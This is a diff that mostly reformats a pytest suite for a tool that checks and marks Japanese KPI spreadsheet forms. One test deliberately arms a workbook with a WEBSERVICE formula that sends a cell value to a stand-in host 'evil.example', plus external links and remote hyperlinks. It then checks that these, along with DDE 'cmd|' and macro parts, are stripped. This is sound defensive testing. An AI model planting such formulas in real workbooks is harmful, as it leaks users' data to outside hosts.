@@ -45,13 +45,20 @@ def form(sample_plan: Plan) -> Form:
 
 @pytest.fixture
 def filled_in(form: Form) -> bytes:
-    return forms.fill(template.make(form), {"K13": {Column.VALUE: 101.2}, "K18": {Column.VALUE: "集計中"}})
+    return forms.fill(
+        template.make(form),
+        {"K13": {Column.VALUE: 101.2}, "K18": {Column.VALUE: "集計中"}},
+    )
 
 
 def mark(content: bytes, form: Form, found: tuple[Finding, ...] = FOUND) -> bytes:
     """As the reader's process does it, with what JSON leaves of the arguments."""
     sheets = cells.read(content, frozenset(HEADINGS_SOUGHT), frozenset(SHEETS_SOUGHT))
-    given = json.loads(json.dumps(input_aids.of_return(Answer(form, found, (), {}, {}), recognise(sheets))))
+    given = json.loads(
+        json.dumps(
+            input_aids.of_return(Answer(form, found, (), {}, {}), recognise(sheets))
+        )
+    )
     return marking.mark(content, given["marks"], given["aids"])
 
 
@@ -70,7 +77,9 @@ def changed(content: bytes, change: Any) -> bytes:
 
 def everything(content: bytes) -> str:
     with ZipFile(io.BytesIO(content)) as parts:
-        return "\n".join(f"{name}\n{parts.read(name).decode()}" for name in parts.namelist())
+        return "\n".join(
+            f"{name}\n{parts.read(name).decode()}" for name in parts.namelist()
+        )
 
 
 def test_the_cells_are_coloured_and_say_why(form: Form, filled_in: bytes) -> None:
@@ -79,7 +88,10 @@ def test_the_cells_are_coloured_and_say_why(form: Form, filled_in: bytes) -> Non
     assert sheet["K9"].border.left.color.rgb.endswith(styling.ERROR_EDGE)
     assert sheet["K6"].fill.start_color.rgb.endswith(styling.HELD)
     assert sheet["K7"].fill.start_color.rgb.endswith(styling.INPUT)
-    assert sheet["K9"].comment.text == "【確認結果】\n× 数値を入れてください。\n△ 正しいですか。"
+    assert (
+        sheet["K9"].comment.text
+        == "【確認結果】\n× 数値を入れてください。\n△ 正しいですか。"
+    )
     assert sheet["P5"].value == styling.RESULT_HEADING
     assert sheet["P9"].value == "× K9 数値を入れてください。\n△ K9 正しいですか。"
     assert sheet["A3"].value == (
@@ -89,7 +101,9 @@ def test_the_cells_are_coloured_and_say_why(form: Form, filled_in: bytes) -> Non
     assert sheet.print_area == "'実績'!$A$1:$P$12"
 
 
-def test_what_concerns_no_cell_is_said_above_the_table(form: Form, filled_in: bytes) -> None:
+def test_what_concerns_no_cell_is_said_above_the_table(
+    form: Form, filled_in: bytes
+) -> None:
     said = (
         Finding("column_twice", ERROR, "同じ列が2つあります。", SCHEDULE_SHEET),
         Finding("which_year", ERROR, "年度を選んでください。"),
@@ -109,12 +123,18 @@ def test_what_was_filled_in_is_not_changed(form: Form, filled_in: bytes) -> None
             assert after[cell.coordinate].protection.locked == cell.protection.locked
 
 
-def test_the_reader_gives_it_back_and_reads_the_same_again(form: Form, filled_in: bytes) -> None:
+def test_the_reader_gives_it_back_and_reads_the_same_again(
+    form: Form, filled_in: bytes
+) -> None:
     with Reader() as reader:
         before = reader.read(filled_in)
         given_back = reader.mark(filled_in, check(form, before))
         after = reader.read(given_back)
-        assert (after.rows, after.bars, after.origin) == (before.rows, before.bars, before.origin)
+        assert (after.rows, after.bars, after.origin) == (
+            before.rows,
+            before.bars,
+            before.origin,
+        )
         twice = reader.mark(given_back, check(form, after))
     once, again = sheet_of(given_back), sheet_of(twice)
     assert [[cell.value for cell in row] for row in once.iter_rows()] == [
@@ -122,7 +142,9 @@ def test_the_reader_gives_it_back_and_reads_the_same_again(form: Form, filled_in
     ]
 
 
-def test_their_own_formatting_and_comments_are_kept(form: Form, filled_in: bytes) -> None:
+def test_their_own_formatting_and_comments_are_kept(
+    form: Form, filled_in: bytes
+) -> None:
     def work(book: Any) -> None:
         sheet = book[ACTUALS_SHEET]
         sheet["O8"].font = Font(name="Meiryo", italic=True, size=14)
@@ -143,7 +165,9 @@ def test_their_own_formatting_and_comments_are_kept(form: Form, filled_in: bytes
     assert sheet_of(mark(once, form, ()))["K9"].comment.text == "数えなおす"
 
 
-def test_a_second_round_takes_the_first_marks_away(form: Form, filled_in: bytes) -> None:
+def test_a_second_round_takes_the_first_marks_away(
+    form: Form, filled_in: bytes
+) -> None:
     again = sheet_of(mark(mark(filled_in, form), form, FOUND[2:]))
     assert again["K9"].comment is None
     assert again["K9"].fill.start_color.rgb.endswith(styling.INPUT)
@@ -151,18 +175,32 @@ def test_a_second_round_takes_the_first_marks_away(form: Form, filled_in: bytes)
     assert [cell.value for cell in again[5]].count(styling.RESULT_HEADING) == 1
 
 
-def test_a_mended_form_looks_as_it_did_when_it_was_new(form: Form, filled_in: bytes) -> None:
+def test_a_mended_form_looks_as_it_did_when_it_was_new(
+    form: Form, filled_in: bytes
+) -> None:
     fresh, after = sheet_of(filled_in), sheet_of(mark(mark(filled_in, form), form, ()))
     assert after["A3"].value == fresh["A3"].value
     for row in fresh.iter_rows():
         for cell in row:
             other = after[cell.coordinate]
-            for style in ("fill", "border", "font", "alignment", "protection", "number_format"):
-                assert repr(getattr(other, style)) == repr(getattr(cell, style)), (cell.coordinate, style)
+            for style in (
+                "fill",
+                "border",
+                "font",
+                "alignment",
+                "protection",
+                "number_format",
+            ):
+                assert repr(getattr(other, style)) == repr(getattr(cell, style)), (
+                    cell.coordinate,
+                    style,
+                )
     assert {cell.value for cell in after["P"]} == {None}
 
 
-def test_dropdowns_colours_and_the_judging_formula_are_there_again(form: Form, filled_in: bytes) -> None:
+def test_dropdowns_colours_and_the_judging_formula_are_there_again(
+    form: Form, filled_in: bytes
+) -> None:
     fresh_form, marked_form = template.make(form), mark(filled_in, form)
     for name in (ACTUALS_SHEET, SCHEDULE_SHEET):
         fresh, after = sheet_of(fresh_form, name), sheet_of(marked_form, name)
@@ -170,18 +208,26 @@ def test_dropdowns_colours_and_the_judging_formula_are_there_again(form: Form, f
             fresh.cell(row, 14).value for row in range(6, 11)
         ]
         rules = [
-            [(str(one.sqref), one.type, one.formula1, one.prompt) for one in sheet.data_validations.dataValidation]
+            [
+                (str(one.sqref), one.type, one.formula1, one.prompt)
+                for one in sheet.data_validations.dataValidation
+            ]
             for sheet in (fresh, after)
         ]
         assert rules[0] == rules[1]
         areas = [
-            [(str(area.sqref), area.rules[0].formula) for area in sheet.conditional_formatting]
+            [
+                (str(area.sqref), area.rules[0].formula)
+                for area in sheet.conditional_formatting
+            ]
             for sheet in (fresh, after)
         ]
         assert areas[0] == areas[1]
 
 
-def test_nothing_of_theirs_that_acts_is_given_back(form: Form, filled_in: bytes) -> None:
+def test_nothing_of_theirs_that_acts_is_given_back(
+    form: Form, filled_in: bytes
+) -> None:
     def arm(book: Any) -> None:
         sheet = book[ACTUALS_SHEET]
         sheet["O6"] = '=WEBSERVICE("http://evil.example/?"&K6)'
@@ -191,16 +237,26 @@ def test_nothing_of_theirs_that_acts_is_given_back(form: Form, filled_in: bytes)
         sheet["O9"].hyperlink = "http://evil.example/empty"
         sheet["O9"].value = None
         sheet["Q20"] = "=[1]evil!A1"
-        sheet.add_data_validation(DataValidation(type="custom", formula1='=evil("x")', sqref="K6"))
-        sheet.conditional_formatting.add("A1:B2", Rule(type="expression", formula=["evil(1)"]))
-        book.defined_names["evil_name"] = DefinedName("evil_name", attr_text="[1]evil!$A$1")
-        sheet.defined_names["evil_local"] = DefinedName("evil_local", attr_text="[1]evil!$A$1")
+        sheet.add_data_validation(
+            DataValidation(type="custom", formula1='=evil("x")', sqref="K6")
+        )
+        sheet.conditional_formatting.add(
+            "A1:B2", Rule(type="expression", formula=["evil(1)"])
+        )
+        book.defined_names["evil_name"] = DefinedName(
+            "evil_name", attr_text="[1]evil!$A$1"
+        )
+        sheet.defined_names["evil_local"] = DefinedName(
+            "evil_local", attr_text="[1]evil!$A$1"
+        )
         other = book.create_sheet("evil table")
         for row in (("evil a", "b"), (1, 2)):
             other.append(row)
         other.add_table(Table(displayName="evil_table", ref="A1:B2"))
         chart = BarChart()
-        chart.add_data(Reference(range_string="'evil table'!$B$1:$B$2"), titles_from_data=True)
+        chart.add_data(
+            Reference(range_string="'evil table'!$B$1:$B$2"), titles_from_data=True
+        )
         other.add_chart(chart)
         book.create_chartsheet("evil chart")
         book.loaded_theme = b'<?xml version="1.0"?><a:theme xmlns:a="x" xmlns:r="y"><a:blip r:link="evil"/></a:theme>'
@@ -208,7 +264,9 @@ def test_nothing_of_theirs_that_acts_is_given_back(form: Form, filled_in: bytes)
     text = everything(mark(changed(filled_in, arm), form))
     assert "evil" not in text.replace('name="evil table"', "").replace("evil a<", "")
     assert "cmd|" not in text
-    assert not re.search(r"externalLink|vbaProject|/charts/|/tables/|/drawings/drawing", text)
+    assert not re.search(
+        r"externalLink|vbaProject|/charts/|/tables/|/drawings/drawing", text
+    )
     assert "hyperlink" not in text
     formulas = re.findall(r"<f>(.*?)</f>", text)
     assert formulas
@@ -216,33 +274,55 @@ def test_nothing_of_theirs_that_acts_is_given_back(form: Form, filled_in: bytes)
 
 
 def test_a_formula_comes_back_as_its_last_result(form: Form, filled_in: bytes) -> None:
-    with_formula = changed(filled_in, lambda book: book[ACTUALS_SHEET].__setitem__("K10", "=8+9"))
+    with_formula = changed(
+        filled_in, lambda book: book[ACTUALS_SHEET].__setitem__("K10", "=8+9")
+    )
     with ZipFile(io.BytesIO(with_formula)) as old:
         saved = io.BytesIO()
         with ZipFile(saved, "w") as new:
             for name in old.namelist():
-                new.writestr(name, re.sub(rb"<f>8\+9</f><v ?/>", b"<f>8+9</f><v>17</v>", old.read(name)))
+                new.writestr(
+                    name,
+                    re.sub(
+                        rb"<f>8\+9</f><v ?/>", b"<f>8+9</f><v>17</v>", old.read(name)
+                    ),
+                )
     cell = sheet_of(mark(saved.getvalue(), form))["K10"]
     assert (cell.value, cell.data_type) == (17, "n")
 
 
-def test_text_that_looks_like_a_formula_stays_text(form: Form, filled_in: bytes) -> None:
+def test_text_that_looks_like_a_formula_stays_text(
+    form: Form, filled_in: bytes
+) -> None:
     def write(book: Any) -> None:
         book[ACTUALS_SHEET]["O6"] = "=1+1"
         book[ACTUALS_SHEET]["O6"].data_type = "s"
 
-    found = (*FOUND, Finding("not_a_number", ERROR, "=2+2\x01 は数値ではありません。", ACTUALS_SHEET, "K8"))
+    found = (
+        *FOUND,
+        Finding(
+            "not_a_number",
+            ERROR,
+            "=2+2\x01 は数値ではありません。",
+            ACTUALS_SHEET,
+            "K8",
+        ),
+    )
     sheet = sheet_of(mark(changed(filled_in, write), form, found))
     assert (sheet["O6"].value, sheet["O6"].data_type) == ("=1+1", "s")
     assert "_x0001_" in sheet["P8"].value
 
 
-def test_rows_and_columns_that_were_moved_are_marked_where_they_are(form: Form, filled_in: bytes) -> None:
+def test_rows_and_columns_that_were_moved_are_marked_where_they_are(
+    form: Form, filled_in: bytes
+) -> None:
     def move(book: Any) -> None:
         book[ACTUALS_SHEET].insert_cols(1, 2)
         book[ACTUALS_SHEET].insert_rows(1, 3)
 
-    moved = (Finding("needs_reason", ERROR, "数値を入れてください。", ACTUALS_SHEET, "M12"),)
+    moved = (
+        Finding("needs_reason", ERROR, "数値を入れてください。", ACTUALS_SHEET, "M12"),
+    )
     after = sheet_of(mark(changed(filled_in, move), form, moved))
     assert after["R8"].value == styling.RESULT_HEADING
     assert after["R12"].value.startswith("× M12")
@@ -267,7 +347,9 @@ def test_a_table_of_their_own_is_marked_without_moving_anything(form: Form) -> N
     assert after["A1"].value == "番号"
 
 
-def test_a_merged_cell_is_marked_where_its_value_stands(form: Form, filled_in: bytes) -> None:
+def test_a_merged_cell_is_marked_where_its_value_stands(
+    form: Form, filled_in: bytes
+) -> None:
     def merge(book: Any) -> None:
         for area in ("K9:K10", "N6:N8", "P9:Q12"):
             book[ACTUALS_SHEET].merge_cells(area)
@@ -279,12 +361,16 @@ def test_a_merged_cell_is_marked_where_its_value_stands(form: Form, filled_in: b
     assert after["P9"].value.startswith("× K9")
 
 
-def test_a_workbook_that_does_not_open_in_full_comes_back_with_its_values(form: Form, filled_in: bytes) -> None:
+def test_a_workbook_that_does_not_open_in_full_comes_back_with_its_values(
+    form: Form, filled_in: bytes
+) -> None:
     with ZipFile(io.BytesIO(filled_in)) as old:
         saved = io.BytesIO()
         with ZipFile(saved, "w") as new:
             for name in old.namelist():
-                new.writestr(name, b"<broken" if name == "docProps/core.xml" else old.read(name))
+                new.writestr(
+                    name, b"<broken" if name == "docProps/core.xml" else old.read(name)
+                )
     sheet = sheet_of(mark(saved.getvalue(), form))
     assert (sheet["K9"].value, sheet["K6"].value) == ("集計中", 101.2)
     assert sheet["P9"].value.startswith("× K9")
@@ -297,27 +383,48 @@ def test_what_is_no_workbook_at_all_is_refused() -> None:
 
 def test_the_process_that_opens_workbooks_loads_no_plan() -> None:
     known = "import sys, dxkpi.workbook.marking; print(*sorted(m for m in sys.modules if m.startswith(('dxkpi.', 'sqlmodel', 'babel'))))"
-    found = subprocess.run([sys.executable, "-c", known], capture_output=True, text=True, check=True).stdout.split()
-    assert found == [f"dxkpi.{name}" for name in (
-        "workbook", "workbook.cells", "workbook.marking", "workbook.safety", "workbook.styling",
-    )]  # fmt: skip
+    found = subprocess.run(
+        [sys.executable, "-c", known], capture_output=True, text=True, check=True
+    ).stdout.split()
+    assert found == [
+        f"dxkpi.{name}"
+        for name in (
+            "workbook",
+            "workbook.cells",
+            "workbook.marking",
+            "workbook.safety",
+            "workbook.styling",
+        )
+    ]
 
 
-def test_its_words_are_japanese_on_an_english_screen(form: Form, filled_in: bytes) -> None:
+def test_its_words_are_japanese_on_an_english_screen(
+    form: Form, filled_in: bytes
+) -> None:
     language.use("en")
     assert sheet_of(mark(filled_in, replace(form)))["A3"].value.startswith("× 赤いセル")
 
 
-def test_a_form_whose_codes_are_written_in_full_width_letters_is_dressed_again(sample_plan: Plan) -> None:
+def test_a_form_whose_codes_are_written_in_full_width_letters_is_dressed_again(
+    sample_plan: Plan,
+) -> None:
     own = sample_plan.indicators[0].model_copy(update={"code": "Ｋ①"})
-    form = Form(sample_plan.model_copy(update={"indicators": (own,)}), 2025, None, 7, 2025)
+    form = Form(
+        sample_plan.model_copy(update={"indicators": (own,)}), 2025, None, 7, 2025
+    )
     fresh = template.make(form)
     assert sheet_of(mark(fresh, form))["N6"].value == sheet_of(fresh)["N6"].value
 
 
-def test_a_row_that_the_plan_does_not_know_is_not_taken_for_the_headings(form: Form, filled_in: bytes) -> None:
-    strange = changed(filled_in, lambda book: book[ACTUALS_SHEET].__setitem__("A6", "K99"))
-    found = (Finding("unknown_code", ERROR, "この番号はありません。", ACTUALS_SHEET, "A6"),)
+def test_a_row_that_the_plan_does_not_know_is_not_taken_for_the_headings(
+    form: Form, filled_in: bytes
+) -> None:
+    strange = changed(
+        filled_in, lambda book: book[ACTUALS_SHEET].__setitem__("A6", "K99")
+    )
+    found = (
+        Finding("unknown_code", ERROR, "この番号はありません。", ACTUALS_SHEET, "A6"),
+    )
     after = sheet_of(mark(strange, form, found))
     assert after["P5"].value == styling.RESULT_HEADING
     assert after["P6"].value == "× A6 この番号はありません。"
@@ -325,7 +432,9 @@ def test_a_row_that_the_plan_does_not_know_is_not_taken_for_the_headings(form: F
     assert mended["A6"].fill.fill_type is None
 
 
-def test_a_column_of_their_own_with_our_heading_is_left_alone(form: Form, filled_in: bytes) -> None:
+def test_a_column_of_their_own_with_our_heading_is_left_alone(
+    form: Form, filled_in: bytes
+) -> None:
     def check_themselves(book: Any) -> None:
         book[ACTUALS_SHEET]["P5"] = styling.RESULT_HEADING
         book[ACTUALS_SHEET]["P9"] = "課長確認済み"
